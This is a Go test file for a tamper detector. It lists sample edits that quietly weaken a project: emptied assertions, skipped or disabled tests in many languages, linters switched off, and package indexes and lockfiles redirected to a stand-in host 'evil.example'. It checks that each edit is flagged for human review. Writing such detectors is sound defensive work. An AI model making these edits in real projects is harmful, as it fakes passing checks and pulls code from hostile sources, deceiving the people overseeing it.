package tamper

import (
	"slices"
	"testing"

	"ferrus/checks"
)

// furtherWeakenings are weakenings of tests in more languages, of where their libraries come from, and of tools.
var furtherWeakenings = []weakening{
	{path: "pyproject.toml", was: "[project]\n",
		now: "[project]\n[[tool.uv.index]]\nurl = \"https://evil.example\"\ndefault = true\n"},
	{path: "WORKSPACE", was: "x\n",
		now: "x\nlocal_repository(name = \"com_google_googletest\", path = \"fake\")\n"},
	{path: "vcpkg-configuration.json", was: "{\n}\n", now: "{\n\"overlay-ports\": [\"./fake\"]\n}\n"},
	{path: "pubspec_overrides.yaml", now: "dependency_overrides:\n  test:\n    path: fake\n"},
	{path: "composer.json", was: "{\n}\n",
		now: "{\n\"autoload-dev\": {\"psr-4\": {\"PHPUnit\\\\Framework\\\\\": \"fake/\"}}\n}\n"},
	{path: "Package.swift", was: "x\n", now: "x\n.package(path: \"fake/Nimble\"),\n"},
	{path: "tests/util.py", was: "def check(a, b):\n    assert a == b\n", now: "def check(a, b):\n    pass\n"},
	{path: "tests/a.rs", was: "#[test]\nfn a() {\n", now: "#[cfg(feature = \"slow\")]\n#[test]\nfn a() {\n"},
	{path: "src/ATest.kt", was: "@Test fun a() {\n", now: "@Test @Disabled fun a() {\n"},
	{path: "src/test/kotlin/A.kt", was: "test(\"hard\") {\n", now: "xtest(\"hard\") {\n"},
	{path: "src/test/scala/ASpec.scala", was: "test(\"a\") {\n", now: "ignore(\"a\") {\n"},
	{path: "src/test/groovy/ASpec.groovy", was: "def 'a'() {\n", now: "@Requires({ false })\ndef 'a'() {\n"},
	{path: "test/a.lua", was: "it('a', function()\n", now: "pending('a', function()\n"},
	{path: "test/runtests.jl", was: "@test f(1) == 2\n", now: "@test_skip f(1) == 2\n"},
	{path: "tests/testthat/test-a.R", was: "test_that('a', {\n  expect_equal(f(), 1)\n",
		now: "test_that('a', {\n  skip('x')\n  expect_equal(f(), 1)\n"},
	{path: "test/ATest.hs", was: "  it \"a\" $ do\n", now: "  xit \"a\" $ do\n"},
	{path: "test/a_test.erl", was: "a_test() ->\n  ?assertEqual(1, f()).\n", now: "a_test() ->\n  ok.\n"},
	{path: "test/a_test.clj", was: "(deftest a\n", now: "(deftest ^:skip a\n"},
	{path: "t/a.t", was: "ok(f());\n", now: "SKIP: { skip 'x', 1; }\n"},
	{path: "test/test_a.ml", was: "let () = assert (f () = 1)\n", now: "let () = ()\n"},
	{path: "tests/a.sol", was: "function testA() public {\n", now: "function xtestA() public {\n"},
	{path: "foundry.toml", was: "[profile.default]\n", now: "[profile.default]\nno_match_test = \"Hard\"\n"},
	{path: "a.test.js", was: "test('a', () => {\n", now: "test.skip('a', () => {\n"},
	{path: "a.test.js", was: "test('a', () => {\n", now: "test('a', { skip: process.env.CI }, () => {\n"},
	{path: "a_test.go", was: "func TestA(t *testing.T) {\n",
		now: "func TestA(t *testing.T) {\n\tif os.Getenv(\"REAL\") == \"\" {\n\t\treturn\n\t}\n"},
	{path: ".clang-tidy", was: "Checks: '*'\n", now: "Checks: '-*'\n", commands: "clang-tidy src/*.c"},
	{path: "src/checkstyle.xml", was: "<module/>\n", now: "\n<!-- -->\n", commands: "mvn checkstyle:check"},
	{path: "config/pmd.xml", was: "<rule ref=\"a\"/>\n<x>\n", now: "<x>\n", commands: "pmd check"},
	{path: "spotbugs-exclude.xml", was: "<x>\n", now: "<x>\n<Match><Class/></Match>\n", commands: "spotbugs a.jar"},
}

// withCode is a change of code beside another one.
var withCode = []checks.FileChange{{Path: "lib.go", Status: 'M'}}

// lockfiles are changes after which a package comes from another host, beside a change of code.
var lockfiles = []weakening{
	{path: "package-lock.json", was: "\"resolved\": \"https://registry.npmjs.org/jest\"\n",
		now: "\"resolved\": \"https://evil.example/jest\"\n", alongside: withCode},
	{path: "yarn.lock", was: "  resolved \"https://registry.yarnpkg.com/jest\"\n",
		now: "  resolved \"https://evil.example/jest\"\n", alongside: withCode},
	{path: "uv.lock", was: "source = { registry = \"https://pypi.org/simple\" }\n",
		now: "source = { registry = \"https://evil.example/simple\" }\n", alongside: withCode},
	{path: "Cargo.lock", was: "x\n", now: "source = \"git+https://evil.example/x#1\"\n", alongside: withCode},
	{path: "Package.resolved", was: "x\n", now: "\"location\" : \"https://evil.example/Nimble\"\n",
		alongside: withCode},
}

// ordinaryOrigins are changes of the same files that weaken nothing.
var ordinaryOrigins = []weakening{
	{path: "package-lock.json", was: "\"resolved\": \"https://registry.npmjs.org/a\"\n",
		now:       "\"resolved\": \"https://registry.npmjs.org/b\",\n\"url\": \"https://opencollective.com/b\"\n",
		alongside: withCode},
	{path: "uv.lock", now: "source = { registry = \"https://pypi.org/simple\" }\n" +
		"sdist = { url = \"https://files.pythonhosted.org/a\" }\n", alongside: withCode},
	{path: "yarn.lock", was: "  resolved \"https://npm.mine.example/a\"\n",
		now: "  resolved \"https://npm.mine.example/b\"\n", alongside: withCode},
	{path: "pyproject.toml", was: "[project]\n", now: "[project]\n[project.urls]\nSource = \"https://a.example\"\n"},
	{path: "CMakeLists.txt", was: "x\n",
		now: "x\nFetchContent_Declare(googletest URL https://github.com/google/googletest/archive/v1.15.zip)\n"},
	{path: "src/main.zig", was: "x\n", now: "x\ntest \"b\" {\n    try expect(b());\n}\n"},
	{path: "tests/a.rs", was: "x\n", now: "x\n#[cfg(unix)]\n#[test]\nfn b() {}\n"},
	{path: "a.test.js", was: "x\n", now: "x\nconst page = await find({ skip: 10 })\n"},
	{path: "src/test/java/ATest.java", was: "x\n", now: "x\nassertEquals(\"pending\", a.state());\n"},
	{path: "src/test/scala/ASpec.scala", was: "x\n", now: "x\n\"it\" in {\n  a shouldBe 1\n}\n"},
}

func TestFurtherWeakeningsNeedTheHuman(t *testing.T) {
	t.Parallel()
	for _, w := range slices.Concat(furtherWeakenings, lockfiles) {
		alarms, err := Find(w.change())
		if err != nil || !slices.ContainsFunc(alarms, func(a Alarm) bool { return a.NeedsHuman && a.Path == w.path }) {
			t.Errorf("%s %q is not raised, but %+v, %v", w.path, w.now, alarms, err)
		}
	}
}
